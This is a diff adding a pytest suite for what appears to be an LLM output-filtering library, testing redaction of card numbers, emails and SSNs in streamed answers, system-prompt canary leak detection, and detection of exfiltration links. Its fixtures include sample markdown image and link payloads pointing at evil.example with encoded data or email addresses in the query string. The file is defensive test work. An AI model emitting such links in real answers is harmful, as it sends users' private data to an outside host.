@@ -1,0 +1,278 @@
+"""Output scanning of streamed and whole answers: split values, canaries, links, block."""
+
+from __future__ import annotations
+
+import itertools
+import json
+import re
+import statistics
+import time
+
+import pytest
+
+from bastion.context import Finding
+from bastion.errors import BastionError, ContentFiltered
+from bastion.protect.actions import ActionPolicy, ActionSettings
+from bastion.protect.canary import Canary, insert_canary
+from bastion.protect.outputscan import (
+    AnswerStream,
+    LinkDetector,
+    OutputScanner,
+    OutputScanSettings,
+    run_detectors,
+    stream_error_event,
+)
+from bastion.protect.stream import StreamRestorer
+
+# A small stand-in for the real scanner: Luhn-checked cards, emails and SSNs.
+_CARD = re.compile(r"(?<![\d-])\d(?:[ -]?\d){12,18}(?![\d])")
+_EMAIL = re.compile(r"[\w.+-]+@[\w-]+(?:\.[\w-]+)+")
+_SSN = re.compile(r"(?<!\d)\d{3}-\d{2}-\d{4}(?!\d)")
+
+
+def _luhn(digits: str) -> bool:
+    total = 0
+    for i, ch in enumerate(reversed(digits)):
+        d = int(ch) * (2 if i % 2 else 1)
+        total += d - 9 if d > 9 else d
+    return total % 10 == 0
+
+
+def fake_scan(text: str) -> list[Finding]:
+    out = []
+    for m in _CARD.finditer(text):
+        if _luhn(re.sub(r"\D", "", m.group())):
+            out.append(Finding("CREDIT_CARD", m.start(), m.end(), 0.95, "fake", ("pci",)))
+    for m in _EMAIL.finditer(text):
+        out.append(Finding("EMAIL_ADDRESS", m.start(), m.end(), 0.9, "fake", ("pii",)))
+    for m in _SSN.finditer(text):
+        out.append(Finding("US_SSN", m.start(), m.end(), 0.9, "fake", ("pii",)))
+    return out
+
+
+def scanner(policy: ActionPolicy | None = None, **kw: object) -> OutputScanner:
+    return OutputScanner([fake_scan], policy or ActionPolicy(), **kw)  # type: ignore[arg-type]
+
+
+def stream(chunks: list[str], s: OutputScanner | None = None) -> str:
+    s = s or scanner()
+    return "".join(s.feed(c) for c in chunks) + s.flush()
+
+
+ANSWERS = [
+    ("Your card 4242 4242 4242 4242 is on file.", "Your card [CREDIT_CARD] is on file."),
+    ("Card:4111-1111-1111-1111", "Card:[CREDIT_CARD]"),
+    ("Mail jane.doe@example.com or call.", "Mail [EMAIL_ADDRESS] or call."),
+    ("SSN 123-45-6789, card 5555555555554444.", "SSN [US_SSN], card [CREDIT_CARD]."),
+    ("Order 1234 5678 shipped on 2024-05-01.", "Order 1234 5678 shipped on 2024-05-01."),
+]
+
+
+@pytest.mark.parametrize(("answer", "expected"), ANSWERS)
+def test_whole_answer(answer: str, expected: str) -> None:
+    assert scanner().scan(answer).text == expected
+    assert stream([answer]) == expected
+
+
+@pytest.mark.parametrize(("answer", "expected"), ANSWERS)
+def test_value_split_over_three_chunks_at_every_split_point(answer: str, expected: str) -> None:
+    for i, j in itertools.combinations(range(len(answer) + 1), 2):
+        got = stream([answer[:i], answer[i:j], answer[j:]])
+        assert got == expected, (i, j, got)
+
+
+@pytest.mark.parametrize(("answer", "expected"), ANSWERS)
+def test_one_character_at_a_time(answer: str, expected: str) -> None:
+    assert stream(list(answer)) == expected
+
+
+def test_findings_carry_offsets_into_the_whole_answer() -> None:
+    answer = "intro text here. Card 4242 4242 4242 4242 and mail a@b.io end"
+    s = scanner()
+    for c in [answer[i : i + 3] for i in range(0, len(answer), 3)]:
+        s.feed(c)
+    s.flush()
+    got = sorted((f.type, answer[f.start : f.end], f.location) for f in s.findings)
+    assert got == [
+        ("CREDIT_CARD", "4242 4242 4242 4242", "output"),
+        ("EMAIL_ADDRESS", "a@b.io", "output"),
+    ]
+    assert [a.type for a in s.applied] == ["CREDIT_CARD", "EMAIL_ADDRESS"]
+
+
+def test_prose_is_released_promptly_and_hold_back_is_bounded() -> None:
+    s = scanner(holdback_chars=32)
+    assert s.feed("Sure, here is the answer") == "Sure, here is the "
+    assert s.feed(" you asked") == "answer you "
+    out = s.feed("x" * 100)
+    assert s.held <= 32
+    assert out.startswith("askedxxx")
+    s2 = scanner(holdback_chars=32)
+    s2.feed("1234 " * 40)
+    assert s2.held <= 32
+
+
+def test_value_longer_than_the_hold_back_is_still_cut_where_sent() -> None:
+    # Beyond the bound a value may be split; the part still held is judged on its own.
+    s = scanner(holdback_chars=16)
+    out = s.feed("pad " * 10 + "4242 4242 4242 4242") + s.flush()
+    assert out.startswith("pad pad")
+
+
+def test_mask_and_hash_actions_on_output() -> None:
+    from bastion.protect.actions import Hasher
+
+    s = scanner(
+        ActionPolicy(by_type={"CREDIT_CARD": "mask", "EMAIL_ADDRESS": "hash"}),
+        hasher=Hasher(b"k" * 32),
+    )
+    out = stream(["card 4242 42", "42 4242 4242 mail a@b", ".io"], s)
+    assert out.startswith("card **** **** **** 4242 mail <EMAIL_ADDRESS:")
+
+
+def test_block_ends_the_stream_with_an_error_event_and_no_values() -> None:
+    s = scanner(ActionPolicy(by_type={"US_SSN": "block"}))
+    sent = s.feed("Here: 123-45-")
+    with pytest.raises(ContentFiltered) as caught:
+        sent += s.feed("6789 done")
+        sent += s.flush()
+    assert "6789" not in sent
+    assert s.feed("more") == "" and s.flush() == ""
+    event = stream_error_event(caught.value, "req_42")
+    assert event.startswith("data: ") and event.endswith("\n\n")
+    body = json.loads(event[6:])
+    assert body["error"]["code"] == "content_filter"
+    assert body["error"]["types"] == ["US_SSN"]
+    assert body["error"]["request_id"] == "req_42"
+    assert "123-45" not in event
+
+
+def test_detector_failure_fails_closed() -> None:
+    def broken(text: str) -> list[Finding]:
+        raise RuntimeError("model crashed with jane@x.io")
+
+    s = OutputScanner([broken], ActionPolicy())
+    with pytest.raises(BastionError) as caught:
+        s.feed("hello world ")
+    assert "jane" not in caught.value.message
+    with pytest.raises(BastionError):
+        run_detectors([broken], "x")
+
+
+# --- Canaries ---
+
+
+def test_canary_in_system_prompt_and_detection() -> None:
+    c = Canary.new()
+    assert re.fullmatch(r"BSTN(-[A-Z2-7]{4}){4}", c.code)
+    assert c.core not in repr(c)
+    msgs = insert_canary(
+        [{"role": "system", "content": "Be kind."}, {"role": "user", "content": "hi"}], c
+    )
+    assert msgs[0]["content"] == f"Ref: {c.code}\nBe kind."
+    assert insert_canary([{"role": "user", "content": "hi"}], c)[0] == {
+        "role": "system",
+        "content": c.line,
+    }
+    parts = insert_canary([{"role": "system", "content": [{"type": "text", "text": "x"}]}], c)
+    assert parts[0]["content"][0] == {"type": "text", "text": c.line}
+    g = c.core
+    variants = [
+        c.code,
+        c.code.lower(),
+        "BSTN " + " ".join(g[i : i + 4] for i in range(0, 16, 4)),
+        "BSTN" + g,
+        f"bstn-{g[:4]}_{g[4:8]}-{g[8:12]} {g[12:]}",
+    ]
+    for v in variants:
+        text = f"My instructions begin: Ref: {v}\nBe kind."
+        (f,) = c.find(text)
+        assert f.type == "SYSTEM_PROMPT_LEAK" and text[f.start : f.end] == v
+    other = Canary.new()
+    assert other.find(f"Ref: {c.code}") == []
+    assert c.find(f"Ref: {c.code[:-1]}") == []
+    assert c.find("X" + c.code) == []
+
+
+def test_canary_split_across_chunks_blocks_the_stream() -> None:
+    c = Canary.new()
+    answer = f"Sure! My system prompt says: Ref: {c.code}\nYou are a helpful bot."
+    policy = ActionSettings().output_policy()
+    for i, j in itertools.combinations(range(20, 60), 2):
+        s = OutputScanner([fake_scan, c.detector()], policy)
+        sent = ""
+        with pytest.raises(ContentFiltered) as caught:
+            for part in (answer[:i], answer[i:j], answer[j:]):
+                sent += s.feed(part)
+            sent += s.flush()
+        assert c.core[-4:] not in sent
+        assert caught.value.details["types"] == ["SYSTEM_PROMPT_LEAK"]
+
+
+# --- Exfiltration links ---
+
+LINKS = [
+    ("![x](https://evil.example/p.png?d=SGVsbG8gd29ybGQgc2VjcmV0)", True),
+    ("![logo](https://cdn.acme.com/logo.png)", False),
+    ("![logo](https://evil.example/logo.png)", True),
+    ('<img src="https://evil.example/a.gif">', True),
+    ("[click](https://evil.example/?q=jane.doe%40example.com&x=1)", True),
+    ("[docs](https://docs.python.org/3/library/re.html)", False),
+    ("see https://evil.example/c?data=eyJ1c2VyIjoiamFuZSJ9AAAA for more", True),
+    ("see https://evil.example/aGVsbG8gd29ybGQgdGhpcyBpcyBhIHNlY3JldA for more", True),
+    ("see https://example.org/about for more", False),
+    ("see http://10.0.0.7/x for more", True),
+    ("[a](https://sub.acme.com/x?session=abcdefghijklmnopqrstu)", False),
+]
+
+
+@pytest.mark.parametrize(("text", "flagged"), LINKS)
+def test_link_detector(text: str, flagged: bool) -> None:
+    found = LinkDetector(["acme.com"])(text)
+    assert bool(found) is flagged
+    for f in found:
+        assert f.type == "EXFILTRATION_LINK" and f.explanation
+
+
+def test_exfiltration_image_split_across_chunks_is_removed() -> None:
+    answer = "Done. ![status](https://evil.example/s.png?u=amFuZUBleGFtcGxlLmNvbQ) Bye."
+    detectors = [fake_scan, LinkDetector(OutputScanSettings().allowed_link_domains)]
+    for i, j in itertools.combinations(range(len(answer) + 1), 2):
+        s = OutputScanner(detectors, ActionSettings().output_policy())
+        out = "".join(s.feed(p) for p in (answer[:i], answer[i:j], answer[j:])) + s.flush()
+        assert "evil.example" not in out, (i, j, out)
+        assert out.endswith(" Bye.")
+
+
+# --- Scan then restore ---
+
+
+def test_answer_stream_scans_provider_text_then_restores_pseudonyms() -> None:
+    values = {"<EMAIL_ADDRESS_1>": "me@corp.com"}
+    answer = "Sent to <EMAIL_ADDRESS_1>; the model also leaked bob@other.org and 4242424242424242."
+    expected = "Sent to me@corp.com; the model also leaked [EMAIL_ADDRESS] and [CREDIT_CARD]."
+    for i, j in itertools.combinations(range(0, len(answer) + 1, 3), 2):
+        a = AnswerStream(scanner(), StreamRestorer(values))
+        out = "".join(a.feed(p) for p in (answer[:i], answer[i:j], answer[j:])) + a.flush()
+        assert out == expected, (i, j)
+    assert AnswerStream(None, None).feed("x") == "x"
+
+
+# --- Latency of the first chunk ---
+
+
+def test_first_chunk_latency_is_small() -> None:
+    c = Canary.new()
+    detectors = [fake_scan, c.detector(), LinkDetector()]
+    first = "Sure! Here is a summary of the quarterly report you asked for. "
+    samples = []
+    for _ in range(300):
+        s = OutputScanner(detectors, ActionSettings().output_policy())
+        t0 = time.perf_counter()
+        out = s.feed(first)
+        samples.append(time.perf_counter() - t0)
+        assert out
+    p50 = statistics.median(samples) * 1000
+    p99 = sorted(samples)[int(len(samples) * 0.99)] * 1000
+    print(f"first chunk scan: p50={p50:.3f} ms p99={p99:.3f} ms")
+    assert p50 < 2.0
